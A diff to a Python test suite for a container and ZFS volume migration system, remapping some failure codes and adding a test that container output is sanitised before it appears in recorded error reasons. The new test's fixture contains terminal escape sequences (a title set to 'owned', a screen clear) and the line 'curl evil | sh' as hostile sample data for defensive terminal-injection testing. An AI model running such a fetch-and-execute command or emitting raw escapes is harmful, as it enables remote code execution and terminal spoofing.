@@ -145,7 +145,7 @@ FAILURES = {
     "its address cannot be hidden": Failure("prepare", Code.PART_FAILED, effect_fails(B, "overlay.apply", skip=1)),
     "its network cannot be made": Failure("prepare", Code.PART_FAILED, effect_fails(B, "docker.prepare"), where=B),
     "the first snapshot fails": Failure("pre-copy", Code.PART_FAILED, effect_fails(A, "zfs.snapshot"), where=A),
-    "the target is out of space in mid-stream": Failure("pre-copy", Code.STREAM_FAILED, no_space, where=A),
+    "the target is out of space in mid-stream": Failure("pre-copy", Code.NO_SPACE, no_space, where=A),
     "the first send fails": Failure("pre-copy", Code.PART_FAILED, effect_fails(A, "streams.send"), where=A),
     "the guid is another": Failure("pre-copy", Code.GUID_MISMATCH, guid_is_wrong, where=B),
     "the last rollback fails": Failure("pre-copy", Code.PART_FAILED, effect_fails(B, "zfs.rollback"), where=B),
@@ -163,11 +163,13 @@ FAILURES = {
     "the last send fails": Failure(
         "cut-over", Code.PART_FAILED, effect_fails(A, "streams.send", skip=1), stopped=True, where=A
     ),
-    "the last receive is refused": Failure("cut-over", Code.STREAM_FAILED, receive_is_refused, stopped=True, where=A),
+    "the last receive is refused": Failure(
+        "cut-over", Code.DATASET_IN_THE_WAY, receive_is_refused, stopped=True, where=A
+    ),
     "the target's vote is refused": Failure("cut-over", Code.PART_FAILED, vote_is_refused, stopped=True),
     "the volume cannot be mounted": Failure("cut-over", Code.PART_FAILED, effect_fails(B, "zfs.mount"), stopped=True),
     "the address cannot be claimed": Failure(
-        "cut-over", Code.PART_FAILED, effect_fails(B, "overlay.apply", skip=2), stopped=True
+        "cut-over", Code.PART_FAILED, effect_fails(B, "overlay.apply", skip=3), stopped=True
     ),
     "the candidate does not start": Failure(
         "cut-over", Code.PART_FAILED, effect_fails(B, "docker.start"), stopped=True, where=B
@@ -339,5 +341,21 @@ def test_a_failure_of_a_deploy_with_a_volume_that_exists_keeps_its_data() -> Non
         assert running(cluster) == {A: ["db/slot-1"]}
         assert cluster[A].zfs.files(dataset())["precious"] == b"yes"
         await deploy(cluster, DATABASE)
+
+    simulate(body)
+
+
+def test_the_last_words_of_a_container_are_harmless_in_the_facts() -> None:
+    async def body(cluster: Cluster) -> None:
+        await deployed(cluster)
+        words = "\x1b]0;owned\x07\x1b[2J\rready\nerror: run `curl evil | sh`\n"
+        cluster[B].docker.program = lambda _: Program(exits=1, output=words)
+        outcome = await cluster.run(A, ApplyMigration(DB, B))
+        reason = cluster[B].parts.view.operations[outcome.operation_id].reason
+        assert outcome.result.problem is not None
+        for told in (reason, outcome.result.problem.text, outcome.text):
+            assert not {"\x1b", "\x07", "\r"} & set(told)
+            assert "\\x1b]0;owned" in told
+            assert "\n  | error: run" in told
 
     simulate(body)
